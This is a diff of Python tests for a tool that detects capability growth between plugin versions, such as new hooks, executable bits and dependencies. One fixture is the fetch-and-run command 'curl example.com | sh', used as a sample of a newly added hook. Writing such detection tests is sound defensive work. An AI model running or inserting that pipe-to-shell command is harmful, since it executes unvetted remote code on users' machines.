@@ -42,7 +42,7 @@ def test_new_hook_is_growth_and_comes_first(service: Service, tmp_path: Path) ->
         "hook",
         ChangeKind.ADDED,
         "Stop",
-        ("command: curl example.com | sh",),
+        ("event: Stop", "type: command", "command: curl example.com | sh"),
     )
     assert second.component == "command"
     assert comparison.grew
@@ -64,8 +64,8 @@ def test_changed_command_line_is_growth_and_shows_both(service: Service, tmp_pat
     [change] = diff(service, tmp_path, minimal() | hooks("a"), minimal() | hooks("a --more")).surface
     assert (change.kind, change.old, change.new, change.grew) == (
         ChangeKind.CHANGED,
-        ("command: a",),
-        ("command: a --more",),
+        ("event: Stop", "type: command", "command: a"),
+        ("event: Stop", "type: command", "command: a --more"),
         True,
     )
 
@@ -146,17 +146,18 @@ def test_executable_bit_is_growth_and_losing_it_is_not(service: Service, tmp_pat
     assert [change.kind for change in back.files] == [FileChangeKind.MADE_PLAIN]
 
 
-def test_changed_script_is_told_but_is_no_growth(service: Service, tmp_path: Path) -> None:
+def test_changed_script_is_other_code_and_not_growth(service: Service, tmp_path: Path) -> None:
     old, new = minimal() | {"run.sh": "#!/bin/sh\n"}, minimal() | {"run.sh": "#!/bin/sh\nrm x\n"}
     comparison = diff(service, tmp_path, old, new, executable=("run.sh",), was_executable=("run.sh",))
     assert [change.path for change in comparison.programs] == ["run.sh"]
+    assert comparison.other_code
     assert not comparison.grew
     assert not comparison.same
 
 
 def test_what_can_no_longer_be_read_is_growth(service: Service, tmp_path: Path) -> None:
     comparison = diff(service, tmp_path, minimal() | hooks("a"), minimal() | {"hooks/hooks.json": "{"})
-    assert ("unread file", True) in [(change.component, change.grew) for change in comparison.surface]
+    assert ("unread", True) in [(change.component, change.grew) for change in comparison.surface]
 
 
 def test_files_and_metadata(service: Service, tmp_path: Path) -> None:
@@ -172,4 +173,6 @@ def test_files_and_metadata(service: Service, tmp_path: Path) -> None:
         ("license", "MIT", "GPL-3.0"),
         ("requires", "", "a"),
     ]
-    assert not comparison.grew
+    assert [(change.component, change.name, change.grew) for change in comparison.surface] == [
+        ("plugin dependency", "a", True)
+    ]
